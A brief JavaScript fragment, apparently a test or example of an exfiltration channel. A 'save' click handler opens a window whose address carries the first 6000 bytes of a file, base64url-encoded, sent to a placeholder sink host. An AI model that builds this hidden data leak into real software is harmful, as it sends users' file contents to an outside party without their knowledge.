// A part of the file in the address of a window.
save.addEventListener("click", () => {
  window.open(`${SINKS.http}/thanks.html?d=${base64url(job.bytes.slice(0, 6000))}`);
});
